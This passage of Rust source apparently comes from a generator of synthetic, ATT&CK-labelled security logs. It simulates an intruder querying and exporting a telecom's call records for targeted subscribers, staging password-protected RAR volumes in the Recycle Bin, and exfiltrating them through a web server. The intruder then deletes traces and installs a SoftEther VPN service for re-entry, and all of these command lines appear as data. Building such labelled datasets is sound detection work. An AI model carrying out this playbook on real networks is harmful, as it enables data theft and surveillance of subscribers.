            let psql = cm.spawn(sink, &mut c.dice, tt, &ccmd, Exe { path: &psql_path, pe: "psql.exe", build: 0 }, format!("\"{psql_path}\" -h 10.30.0.10 -U {db_user} -d cdrdw -f {dir}\\q{}.sql -o {out}", n + 1));
            let port = 52_000 + c.dice.below(9_000) as u16;
            cm.connect(
                sink,
                tt + 200_000,
                &psql,
                "tcp",
                true,
                (&chost_ip, port),
                ("10.30.0.10", 5432),
            );
            cm.file(sink, tt + 40 * SECOND, &psql, &out);
            c.flow(
                sink,
                tt,
                (&chost_ip, port),
                ("10.30.0.10", 5432),
                "postgresql",
                55.0,
                6_000,
                2_400_000,
            );
            self.db_session(c, tt + 300_000, &db_user, &chost_ip, port, chunk, n == 0);
        }
        t = night0 + (chunks.len() as i64 - 1) * DAY + 2 * HOUR;

        // Stage 8: encrypted split archives in the Recycle Bin.
        c.label(
            sink,
            8,
            "T1560.001",
            "password-protected split RAR of the query results",
        );
        let bin = format!(
            "C:\\$Recycle.Bin\\S-1-5-21-3623811015-3361044348-30300820-{}",
            1100 + c.kit.wave as u32
        );
        let rar = cm.spawn(
            sink,
            &mut c.dice,
            t,
            &ccmd,
            Exe {
                path: &rar_path,
                pe: "Rar.exe",
                build: c.kit.build,
            },
            format!(
                "{rar_path} a -r -m5 -hpTr0ub4dor{w} -v50m \"{bin}\\cdr.rar\" {dir}\\r*.csv",
                w = c.kit.wave
            ),
        );
        let parts = 3 + c.dice.index(4);
        c.label(
            sink,
            8,
            "T1074.001",
            "archive volumes staged in the Recycle Bin",
        );
        for p in 1..=parts {
            cm.file(
                sink,
                t + (10 * p as i64) * SECOND,
                &rar,
                &format!("{bin}\\cdr.part{p:02}.rar"),
            );
        }
        cm.spawn(
            sink,
            &mut c.dice,
            t + 2 * MINUTE,
            &ccmd,
            exe("C:\\Windows\\System32\\cmd.exe", "Cmd.Exe"),
            format!("cmd /c del /q {dir}\\r*.csv {dir}\\q*.sql"),
        );
        t += 10 * MINUTE;
        let entry_ip = c.ip(entry);
        let dest = if iis {
            "c$\\inetpub\\wwwroot\\aspnet_client\\system_web"
        } else {
            "c$\\wildfly\\welcome-content"
        };
        c.label(
            sink,
            8,
            "T1074.001",
            "archive volumes moved to the web server",
        );
        cm.spawn(
            sink,
            &mut c.dice,
            t,
            &ccmd,
            exe("C:\\Windows\\System32\\cmd.exe", "Cmd.Exe"),
            format!("cmd /c copy \"{bin}\\cdr.part*.rar\" \\\\{entry_ip}\\{dest}\\"),
        );
        for p in 1..=parts {
            let local = dest.replacen("c$", "C:", 1);
            web.file(
                sink,
                t + (5 * p as i64) * SECOND,
                &system4,
                &format!("{local}\\cdr.part{p:02}.rar"),
            );
        }
        c.flow(
            sink,
            t,
            (&chost_ip, 50_620),
            (&entry_ip, 445),
            "smb",
            40.0,
            50_000_000 * parts as u64,
            40_000,
        );

        // Stage 9: the volumes leave through the web server.
        t += c.dice.range(20, 120) * MINUTE;
        c.label(
            sink,
            9,
            "T1041",
            "archive volumes downloaded from the web server",
        );
        for p in 1..=parts {
            let tt = t + (p as i64) * 3 * MINUTE;
            let size = if p == parts {
                17_000_000 + c.dice.below(30_000_000)
            } else {
                52_428_800
            };
            if iis {
                let stream = c.estate.web[world.host("WEB01")].expect("WEB01 logs W3C");
                let stem = format!("/aspnet_client/system_web/cdr.part{p:02}.rar");
                let line = web::line(
                    tt,
                    "10.20.0.10",
                    &Request {
                        method: "GET",
                        stem: &stem,
                        query: "",
                        port: 443,
                        user: "",
                        client: &attacker,
                        agent: "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)",
                        referer: "",
                        status: 200,
                        sc_bytes: size,
                        cs_bytes: 310,
                        time_taken_ms: 60_000 + c.dice.below(90_000),
                    },
                );
                sink.text(stream, tt, line);
            } else {
                web.connect(
                    sink,
                    tt,
                    &parent,
                    "tcp",
                    false,
                    (&entry_ip, 8080),
                    (&attacker, 50_000 + p as u16),
                );
            }
            c.flow(
                sink,
                tt,
                (&attacker, 50_000 + p as u16),
                (&entry_ip, if iis { 443 } else { 8080 }),
                if iis { "ssl" } else { "http" },
                95.0,
                400,
                size,
            );
        }
        t += (parts as i64 + 1) * 3 * MINUTE;
        let cleanup = format!("del /q {}\\cdr.part*.rar", dest.replacen("c$", "C:", 1));
        shell_cmd(
            c,
            sink,
            t,
            9,
            "T1070.004",
            "archive volumes deleted from the web root",
            exe("C:\\Windows\\System32\\cmd.exe", "Cmd.Exe"),
            &cleanup,
        );

        // Stage 10: a SoftEther VPN client on the file server, and the actor's own account
        // logging in over it later.
        t += c.dice.range(2, 6) * HOUR;
        c.touch("FS01");
        let fs = c.m("FS01");
        let fs_ip = c.ip("FS01");
        let vpn = "C:\\ProgramData\\SoftEther\\vpnclient.exe".to_string();
        c.tool(&vpn);
        c.label(
            sink,
            10,
            "T1133",
            "SoftEther VPN client installed as a service",
        );
        fs.file(sink, t, &system4, &vpn);
        fs.file(
            sink,
            t + SECOND,
            &system4,
            "C:\\ProgramData\\SoftEther\\vpn_client.config",
        );
        let da_who = Who::user(&da, &da_sid, 0);
        fs.service(
            sink,
            t + 10 * SECOND,
            &da_who,
            "SEVPNCLIENT",
            &format!("\"{vpn}\" /service"),
        );
        let fs_services = bg.services(world.host("FS01")).clone();
        let vpnp = fs.spawn(
            sink,
            &mut c.dice,
            t + 12 * SECOND,
            &fs_services,
            Exe {
                path: &vpn,
                pe: "vpnclient.exe",
                build: 0,
            },
            format!("\"{vpn}\" /service"),
        );
        let vpn_host = format!("vpn{}.softether.net", 100_000 + c.dice.below(900_000));
        fs.dns(sink, t + 13 * SECOND, &vpnp, &vpn_host, "198.51.100.99");
        fs.connect(
            sink,
            t + 14 * SECOND,
            &vpnp,
            "tcp",
            true,
            (&fs_ip, 50_555),
            ("198.51.100.99", 5555),
        );
        c.flow(
            sink,
            t + 14 * SECOND,
            (&fs_ip, 50_555),
            ("198.51.100.99", 5555),
            "ssl",
            7200.0,
            9_000_000,
            14_000_000,
        );
        let back = t + c.dice.range(2, 4) * DAY + c.dice.range(0, 6) * HOUR;
        c.label(
            sink,
            10,
            "T1078",
            "the intruder's domain admin logs on over the VPN",
        );
        let dc = c.m("DC01");
        dc.kerberos_tgt(sink, back - SECOND, &da_who, "192.168.30.12");
        let l = jump.logon(
            sink,
            &mut c.dice,
            back,
            &da_who,
            10,
            false,
            ("192.168.30.12", "DESKTOP-7H2K4Q"),
            true,
        );
        jump.logoff(
            sink,
            back + c.dice.range(10, 50) * MINUTE,
            &Who::user(&da, &da_sid, l),
            l,
            10,
        );
        sink.set_label(None);
        back + HOUR
    }

    /// One night's psql session: the targeted SELECTs over two years of history, then a COPY.
    #[allow(clippy::too_many_arguments)]
    fn db_session(
        &mut self,
        c: &mut Ctx<'_>,
        t: i64,
        user: &str,
        host: &str,
        port: u16,
        msisdns: &[String],
        copy: bool,
    ) {
        let session = self.sessions.len();
        self.sessions.push(Session::new(
            20_000 + c.dice.below(30_000) as u32,
            user,
            "cdrdw",
            "psql",
            host,
            port,
            t,
        ));
        let from = t - 730 * DAY;
        let list = msisdns
            .iter()
            .map(|m| format!("'{m}'"))
            .collect::<Vec<_>>()
            .join(", ");
        let from_s = clock::date(from);
        let mut tt = t + 5 * SECOND;
        let label = Label {
            wave: c.kit.wave,
            stage: 7,
            technique: "T1005",
            what: "targeted CDR query for a few subscribers over two years",
        };
        self.db_steps.push(DbStep {
            time: t,
            session,
            action: DbAction::Connect,
            label: label.clone(),
        });
        for table in ["cdr.voice_cdr", "cdr.sms_cdr"] {
            let text = format!(
                "select start_time, end_time, record_type, calling_number, called_number,\n       duration_s, served_imei, lac_tac, cell_id\n  from {table}\n where served_msisdn in ({list})\n   and start_time >= '{from_s}'\n order by served_msisdn, start_time;"
            );
            self.push_query(
                c.kit.wave,
                tt,
                session,
                Statement::select(table, text, None, 0),
                msisdns,
                table,
                from,
                label.clone(),
            );
            tt += c.dice.range(20, 200) * SECOND;
        }
        if copy {
            let text = format!("COPY (select * from cdr.voice_cdr where served_msisdn in ({list}) and start_time >= '{from_s}') TO STDOUT WITH CSV HEADER");
            self.push_query(
                c.kit.wave,
                tt,
                session,
                Statement::select("cdr.voice_cdr", text, None, 0),
                msisdns,
                "cdr.voice_cdr",
                from,
                Label {
                    what: "targeted CDR export",
                    ..label.clone()
                },
            );
            tt += 30 * SECOND;
        }
        self.db_steps.push(DbStep {
            time: tt,
            session,
            action: DbAction::Disconnect,
            label,
        });
    }

    #[allow(clippy::too_many_arguments)]
    fn push_query(
        &mut self,
        wave: u8,
        t: i64,
        session: usize,
        statement: Statement,
        msisdns: &[String],
        table: &'static str,
        from: i64,
        label: Label,
    ) {
        self.queries.push(TheftQuery {
            wave,
            msisdns: msisdns.to_vec(),
            tables: vec![table],
            from,
            executed: t,
        });
        let query = self.queries.len() - 1;
        self.db_steps.push(DbStep {
            time: t,
            session,
            action: DbAction::Run(statement, query),
            label,
        });
    }

    /// Writes the campaign's database statements older than `until`, with the rows the
    /// generated CDRs gave each (`rows_of`).
    pub fn db_until(
        &mut self,
        sink: &mut Sink,
        db: crate::sink::StreamId,
        until: i64,
        rows_of: impl Fn(usize) -> u64,
    ) {
        if self.next_step == 0 {
            // Waves were planned one after another; their statements may interleave.
            self.db_steps.sort_by_key(|s| s.time);
        }
        while let Some(step) = self.db_steps.get(self.next_step).filter(|s| s.time < until) {
            self.next_step += 1;
            sink.set_label(Some(step.label.clone()));
            let session = &mut self.sessions[step.session];
            match &step.action {
                DbAction::Connect => session.connect(sink, db),
                DbAction::Disconnect => session.disconnect(sink, db, step.time),
                DbAction::Run(statement, query) => {
                    let mut st = statement.clone();
                    st.rows = rows_of(*query);
                    session.run(sink, db, step.time, &st);
                }
            }
        }
        sink.set_label(None);
    }
}

/// The next moment at or after `t` when it is `hour` o'clock local time.
fn next_local(t: i64, hour: i64, offset_min: i32) -> i64 {
    let off = i64::from(offset_min) * MINUTE;
    let local = t + off;
    let mut target = local - local.rem_euclid(DAY) + hour * HOUR;
    if target < local {
        target += DAY;
    }
    target - off
}

/// PowerShell's `-enc` form: UTF-16LE, base64.
fn utf16_base64(s: &str) -> String {
    const B64: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let bytes: Vec<u8> = s.encode_utf16().flat_map(|u| u.to_le_bytes()).collect();
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let n = (u32::from(chunk[0]) << 16)
            | (u32::from(*chunk.get(1).unwrap_or(&0)) << 8)
            | u32::from(*chunk.get(2).unwrap_or(&0));
        for k in 0..4 {
            if k <= chunk.len() {
                out.push(B64[(n >> (18 - 6 * k) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn powershell_encoding_is_utf16_base64() {
        // "ab" in UTF-16LE is 61 00 62 00.
        assert_eq!(utf16_base64("ab"), "YQBiAA==");
    }
}
